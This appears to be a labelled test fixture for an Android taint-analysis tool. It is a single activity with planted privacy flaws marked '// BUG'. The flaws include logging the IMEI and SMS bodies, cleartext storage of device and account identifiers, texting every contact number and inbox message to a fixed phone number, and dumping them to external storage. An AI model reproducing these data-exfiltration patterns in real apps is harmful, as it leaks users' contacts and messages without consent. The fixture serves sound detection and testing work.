package corpus.androidtaint.personaldata;

import android.accounts.Account;
import android.accounts.AccountManager;
import android.app.Activity;
import android.content.ContentResolver;
import android.content.ContentValues;
import android.database.Cursor;
import android.database.sqlite.SQLiteDatabase;
import android.net.Uri;
import android.os.Build;
import android.os.Bundle;
import android.os.Environment;
import android.provider.ContactsContract;
import android.provider.Settings;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;

import java.io.File;
import java.io.FileWriter;
import java.io.IOException;
import java.io.PrintWriter;

public class ProfileActivity extends Activity {
    private SQLiteDatabase db;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        db = openOrCreateDatabase("care.db", MODE_PRIVATE, null);
        TelephonyManager tm = getSystemService(TelephonyManager.class);
        Log.e("Care", "device " + tm.getImei()); // BUG: android/sensitive-data-logged
        ContentResolver cr = getContentResolver();
        String androidId = Settings.Secure.getString(cr, Settings.Secure.ANDROID_ID);
        getSharedPreferences("ids", MODE_PRIVATE).edit().putString("device", androidId).apply(); // BUG: android/cleartext-storage
        String deviceName = Settings.Secure.getString(cr, "bluetooth_name");
        getSharedPreferences("ids", MODE_PRIVATE).edit().putString("name", deviceName).apply();
        CareApi api = CareApi.create();
        api.register(Build.SERIAL, "care-app"); // BUG: android/sensitive-data-network
        api.hello("care-app");
        Account[] accounts = AccountManager.get(this).getAccounts();
        ContentValues row = new ContentValues();
        row.put("owner", accounts[0].name);
        db.insert("profile", null, row); // BUG: android/cleartext-storage
        ContentValues settings = new ContentValues();
        settings.put("theme", "dark");
        db.insert("settings", null, settings);
        shareContacts(cr);
        readInbox(cr);
    }

    private void shareContacts(ContentResolver cr) {
        Cursor c = cr.query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        while (c.moveToNext()) {
            String number = c.getString(c.getColumnIndexOrThrow(ContactsContract.CommonDataKinds.Phone.NUMBER));
            SmsManager.getDefault().sendTextMessage("+15550199", null, "contact " + number, null, null); // BUG: android/sensitive-data-sms
            try (FileWriter out = new FileWriter(new File(Environment.getExternalStoragePublicDirectory(
                    Environment.DIRECTORY_DOCUMENTS), "contacts.txt"), true)) {
                out.write(number); // BUG: android/external-storage
                out.write("\n");
            } catch (IOException e) {
                Log.w("Care", "cannot export", e);
            }
        }
        c.close();
        Cursor notes = cr.query(Uri.parse("content://corpus.androidtaint.notes/all"), null, null, null, null);
        while (notes.moveToNext()) {
            Log.d("Care", "note " + notes.getString(0));
        }
        notes.close();
    }

    private void readInbox(ContentResolver cr) {
        Cursor inbox = cr.query(Uri.parse("content://sms/inbox"), new String[] {"body"}, null, null, null);
        while (inbox.moveToNext()) {
            String body = inbox.getString(0);
            Log.w("Care", "sms " + body); // BUG: android/sensitive-data-logged
            SmsManager sms = SmsManager.getDefault();
            sms.sendMultipartTextMessage("+15550199", null, sms.divideMessage(body), null, null); // BUG: android/sensitive-data-sms
            File dump = new File(getExternalCacheDir(), "inbox.txt");
            try (PrintWriter w = new PrintWriter(new FileWriter(dump, true))) {
                w.println(body); // BUG: android/external-storage
                w.println("--");
            } catch (IOException e) {
                Log.w("Care", "cannot dump", e);
            }
        }
        inbox.close();
    }
}
